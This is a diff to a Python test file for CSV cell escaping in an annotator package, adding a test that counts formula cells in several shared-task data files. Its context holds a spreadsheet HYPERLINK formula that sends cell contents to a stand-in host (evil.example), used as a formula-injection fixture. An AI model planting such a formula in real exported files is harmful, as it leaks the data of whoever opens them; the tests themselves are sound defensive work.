@@ -24,6 +24,7 @@ from annotator.core.csv_cells import (
     write_frame,
     write_official_frame,
 )
+from tests.conftest import SHARED_DATA
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Invoice")'
 
@@ -163,3 +164,16 @@ def test_a_reports_table_file_quotes_a_system_named_like_a_formula(tmp_path):
     paths = report.write(tmp_path)
     assert (tmp_path / "map.csv").read_bytes() == b"system,strict,rank\n'@evil,-0.25,1\nalpha,0.5,\n"
     assert json.loads(paths[-1].read_text("utf-8"))["tables"][0]["rows"][0]["system"] == "@evil"
+
+
+@pytest.mark.shared_data
+@pytest.mark.parametrize(("file", "count"), [
+    ("kpa2021/kpm_data/arguments_train.csv", 0), ("kpa2021/kpm_data/key_points_train.csv", 0),
+    ("kpa2021/test_data/arguments_test.csv", 0),
+    ("emphasis2020/train_dev_data/train.txt", 84), ("emphasis2020/train_dev_data/dev.txt", 14),
+    ("ruarg2022/data/train.tsv", 36),
+    ("recam2021/data/trail_data/Task_1_Imperceptibility.jsonl", 12),
+    ("recam2021/data/trail_data/Task_2_Nonspecificity.jsonl", 13),
+    ("recam2021/data/trail_data/Task_3_Intersection.jsonl", 7)])
+def test_the_formula_cells_of_the_shared_tasks_files_are_those_docs_csv_cells_counts(file, count):
+    assert len(formula_cells(SHARED_DATA / file)) == count
